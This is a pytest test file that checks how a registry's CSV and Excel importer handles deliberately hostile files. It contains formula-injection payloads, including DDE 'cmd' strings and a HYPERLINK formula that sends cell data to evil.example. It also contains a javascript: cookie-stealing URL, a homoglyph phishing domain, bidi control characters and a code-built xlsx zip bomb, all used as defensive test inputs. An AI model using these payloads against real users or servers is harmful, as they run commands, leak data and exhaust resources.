"""Files that were made to break an importer, one test for each: what it does with them, and what it does not."""

import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from registry.exchange.tables import NotReadable, Reading, Row, Sheet, look, rows
from tests.tables import cell, relations

HOSTILE = Path(__file__).parents[2] / "data/hostile"


def read(name: str) -> tuple[Sheet, list[Row]]:
    path = HOSTILE / name
    seen = look(path)
    return seen, list(rows(path, seen.reading))


def faulty(found: list[Row]) -> dict[int, list[tuple[int, str]]]:
    return {row.number: [(fault.column, fault.sentence) for fault in row.faults] for row in found if row.faults}


def test_01_a_french_file_of_windows_keeps_its_letters() -> None:
    seen, found = read("01_cp1252_semicolon_french_headers.csv")
    assert (seen.kind, seen.reading) == ("csv", Reading("cp1252", ";", "", 1))
    assert seen.headers[0] == "Nom de l’organisation"
    assert seen.headers[7] == "Année de création"
    assert [warning.split(";")[0] for warning in seen.warnings] == [
        "The file does not say how its letters are stored"  # an encoding that is guessed is said to be one
    ]
    assert found[0].cells == [
        *("Office ivoirien des parcs et réserves", "OIPR", "Organisme public", "Côte d’Ivoire", "Abidjan"),
        *("www.oipr.ci", "contact@oipr.example", "2002", "Gère les aires protégées ; budget 1 250 000 €"),
    ]
    assert found[1].cells[8] == "« Cœur » du bassin du Congo — 34 sites"
    assert found[2].cells[7] == "12/03/1998"  # what it means is asked later
    assert [row.number for row in found] == [2, 3, 4, 5]
    assert faulty(found) == {}


def test_02_unicode_text_of_excel_in_six_scripts_is_read_unchanged() -> None:
    seen, found = read("02_utf16le_bom_tab.csv")
    assert seen.reading == Reading("utf-16-le", "\t", "", 1)
    assert seen.headers == ["Name", "Acronym", "Type", "Country", "Website"]
    assert [(row.cells[0], row.cells[3]) for row in found] == [
        ("الجمعية الملكية لحماية الطبيعة", "الأردن"),
        ("中国生物多样性保护与绿色发展基金会", "中国"),
        ("Всемирный фонд дикой природы", "Россия"),
        ("ಅಶೋಕ ಟ್ರಸ್ಟ್ 🌿", "India"),
    ]
    assert (seen.warnings, faulty(found)) == ([], {})


def test_03_formulas_are_text_and_names_that_look_like_one_are_kept() -> None:
    seen, found = read("03_formula_injection.csv")
    names = [row.cells[0] for row in found]
    assert names[:4] == [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
    ]
    assert names[5:8] == ["=1+1"] * 3  # without the tab, the line end and the space before it
    assert names[8] == "＝1+1"
    assert names[-3:] == ["+Verde Asociación", "@NatureTrust", "-40°C Club"]
    assert found[7].number == 10  # the row before it takes two lines
    assert (seen.warnings, faulty(found), len(found)) == ([], {}, 17)


def test_05_every_spelling_reaches_those_who_compare_and_repeats_are_alike() -> None:
    _seen, found = read("05_duplicates_near_duplicates.csv")
    assert len(found) == 28
    assert found[0].cells == found[8].cells == found[9].cells == found[10].cells
    assert found[5].cells[0] == found[0].cells[0] == "Fundación Naturaleza y Hombre"  # composed, and spaced once
    assert found[3].cells[0] == found[0].cells[0]


def test_06_hidden_characters_and_bytes_that_are_no_letters_are_told_by_their_place() -> None:
    seen, found = read("06_control_bytes_bidi_invalid_utf8.csv")
    assert seen.reading == Reading("utf-8", ",", "", 1)
    not_utf_8 = "is no letter in the encoding “Unicode (UTF-8)”. Type this cell again, or save the file as CSV (UTF-8)."
    raw = (HOSTILE / "06_control_bytes_bidi_invalid_utf8.csv").read_bytes()
    assert raw[847:849] == b"\xff\xfe"
    assert raw[921:924] == b"\xed\xa0\x80"
    assert faulty(found) == {
        2: [(0, "There is a hidden character (U+0000) after “Nul”. Delete it, or type that part again.")],
        3: [(0, "There is a hidden character (U+202E) after “Safe”. Delete it, or type that part again.")],
        5: [(0, "The text begins with a hidden character (U+2066). Delete it, or type the text again.")],
        8: [(0, "There is a hidden character (U+0007) after “Bell”. Delete it, or type that part again.")],
        9: [(0, f"Byte 848 of the file {not_utf_8}")],
        10: [(0, f"Byte 922 of the file {not_utf_8}")],
        12: [(0, "There are too many accents on one letter, “Z”. Type that word again.")],
    }
    assert {row.number: row.notes[0].sentence for row in found if row.notes} == {
        6: "A word has letters of two scripts that look alike. Make sure that it does not imitate another name."
    }
    assert found[5].cells[0] == "جمعية البيئة (2030) - SPNL"
    assert found[2].cells[0] == "ZeroWidth Network"
    assert found[9].cells[0] == "Line\nSeparator\nOrg"
    assert not any(set("\x00\u202e\u2066\x07\ufffd\udcff") & set("".join(row.cells)) for row in found)


def test_08_a_file_without_a_header_does_not_lose_its_first_organization() -> None:
    seen, found = read("08_missing_header_row.csv")
    assert seen.reading.header == 0
    assert seen.headers == [""] * 9
    assert seen.warnings == [
        "No line names the columns, so the first line counts as a row. Choose for each column what it holds, or say "
        "which line names them."
    ]
    assert [row.cells[0] for row in found] == ["Instituto Socioambiental", "Kenya Wildlife Service", "Ashoka Trust"]


def test_10_countries_are_told_as_they_are_written() -> None:
    _seen, found = read("10_country_names_many_languages.csv")
    assert len(found) == 105
    countries = [row.cells[1] for row in found]
    assert countries[:3] == ["Côte d'Ivoire", "Cote D'Ivoire", "Côte d’Ivoire"]
    assert {"NA", "NO", "Niger", "Nigeria", "Congo", "Wakanda"} <= {*countries}
    assert countries == [country.strip() for country in countries]
    assert faulty(found) == {}


def test_11_addresses_are_text_and_a_line_end_in_one_stays_to_be_refused() -> None:
    _seen, found = read("11_bad_urls_emails.csv")
    assert [row.cells[0] for row in found][:2] == ["URL case 01 <b>bold</b>", "URL case 02 <b>bold</b>"]
    assert found[0].cells[1] == "javascript:alert(document.cookie)"
    assert max(len(row.cells[1]) for row in found) > 3000
    assert any("\n" in row.cells[2] for row in found)
    assert [row.cells[1] for row in found if row.notes] == ["https://www.раypal.example/"]
    assert faulty(found) == {}


def test_12_a_sheet_that_people_decorated_is_read_from_its_header_on() -> None:
    seen, found = read("12_merged_cells_dates_hidden.xlsx")
    assert (seen.kind, seen.reading) == ("xlsx", Reading("", "", "Members (2)", 5))
    assert (seen.sheets, seen.hidden) == (["Members (2)", "Empty"], ["hidden contacts"])
    assert seen.headers == [
        *("Organisation", "", "Type", "Country", "Joined", "Established", "Website", "Members", "Share")
    ]
    assert seen.warnings == [
        "These columns are hidden in the file, and are read all the same: I.",
        "Some rows are hidden in the file, perhaps by a filter. They are read all the same.",
        "The sheet has merged cells. Only the first cell of each holds its text, and the others are empty: undo the "
        "merging where that is not meant.",
    ]
    cells = {row.number: row.cells for row in found}
    assert [*cells] == [6, 7, 8, 9, 10, 11, 12, 13, 14, 2000]
    assert [row[4] for row in cells.values()][:6] == [
        *("2023-06-01", "01/02/2023", "2023-13-45", "45321", "true", "12:00:00")
    ]
    assert [row[5] for row in cells.values()][:6] == ["1988", "1990", "1990", "c. 1975", "-5", "3024"]
    assert [row[7] for row in cells.values()][:6] == ["1234", "1 234", "1", "n/a", "100000", "1e+308"]
    assert cells[10][0] == "00123"
    assert cells[14][0] == "Rich\nmulti-line name"
    formula = "There is a formula in this cell. Copy it, and paste its value instead."
    assert faulty(found) == {
        9: [(6, formula)],
        10: [(8, "There is the error #REF! in this cell. Type what belongs there.")],
        12: [(0, formula), (3, formula), (7, formula)],
        13: [(0, formula), (2, formula)],
        2000: [
            (
                8,
                "There is something in column XFD, right of the last column. Delete it or give its column a name; in "
                "a CSV file a text that holds the delimiter needs quotation marks.",
            )
        ],
    }
    everything = str([seen, found])
    assert "private.example" not in everything
    assert "internal note" not in everything


def test_12_a_hidden_sheet_is_read_when_it_is_asked_for() -> None:
    seen = look(HOSTILE / "12_merged_cells_dates_hidden.xlsx", Reading(sheet="hidden contacts"))
    assert seen.headers == ["name", "private email"]
    assert seen.sample == [["Person", "person@private.example"]]


def test_13_a_small_file_that_opens_to_millions_of_rows_is_refused_at_once(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    text = f"<row>{cell('A' * 64)}{cell('KE')}</row>".encode() * 10_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("_rels/.rels", relations(officeDocument="xl/workbook.xml"))
        packed.writestr(
            "xl/workbook.xml",
            '<workbook xmlns:r="R"><sheets><sheet name="S" sheetId="1" r:id="worksheet"/></sheets></workbook>',
        )
        packed.writestr("xl/_rels/workbook.xml.rels", relations(worksheet="worksheets/sheet1.xml"))
        with packed.open("xl/worksheets/sheet1.xml", "w") as part:
            part.write(b"<worksheet><sheetData>")
            for _times in range(150):
                part.write(text)
            part.write(b"</sheetData></worksheet>")
    assert path.stat().st_size < 2_000_000
    tracemalloc.start()
    begun = time.process_time()
    with pytest.raises(NotReadable) as refusal:
        look(path)
    taken = time.process_time() - begun
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert str(refusal.value) == (
        "This Excel file opens to more than is read here. Copy the rows that you need into a new workbook, or split "
        "the table, and send it again."
    )
    assert taken < 2
    assert most < 5_000_000


def test_15_a_workbook_is_one_whatever_its_name_says() -> None:
    renamed, found = read("15_really_xlsx.csv")
    workbook, same = read("12_merged_cells_dates_hidden.xlsx")
    assert renamed.kind == "xlsx"
    assert (renamed, found) == (workbook, same)
